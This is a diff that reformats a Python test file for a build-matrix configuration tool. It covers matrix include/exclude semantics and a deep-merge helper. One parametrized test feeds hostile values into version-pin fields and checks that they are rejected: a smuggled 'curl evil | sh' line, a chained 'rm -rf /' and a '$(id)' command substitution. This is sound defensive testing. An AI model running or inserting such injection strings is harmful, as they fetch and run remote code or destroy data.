@@ -30,7 +30,8 @@ def test_project_matrix_loads_and_expands():
 
 def test_include_exclude_follow_github_actions_semantics():
     axes = MatrixAxes(
-        chip=["a", "b"], model=["x", "y"],
+        chip=["a", "b"],
+        model=["x", "y"],
         exclude=[{"chip": "b", "model": "y"}],
         include=[{"chip": "a", "note": "extends a-x and a-y"}, {"chip": "c", "model": "z"}],
     )
@@ -118,12 +119,15 @@ def test_deep_merge_replaces_lists():
     assert deep_merge({"a": {"b": 1, "c": [1]}}, {"a": {"c": [2]}}) == {"a": {"b": 1, "c": [2]}}
 
 
-@pytest.mark.parametrize("field,value", [
-    ("python", "3.13\nRUN curl evil | sh"),
-    ("python", "3.13 && rm -rf /"),
-    ("flagscale", '0.8.0"'),
-    ("flagscale", "$(id)"),
-])
+@pytest.mark.parametrize(
+    "field,value",
+    [
+        ("python", "3.13\nRUN curl evil | sh"),
+        ("python", "3.13 && rm -rf /"),
+        ("flagscale", '0.8.0"'),
+        ("flagscale", "$(id)"),
+    ],
+)
 def test_injection_through_a_pin_is_rejected(tmp_path, field, value):
     data = project_matrix()
     data["chips"]["cpu"]["stack"][field] = value
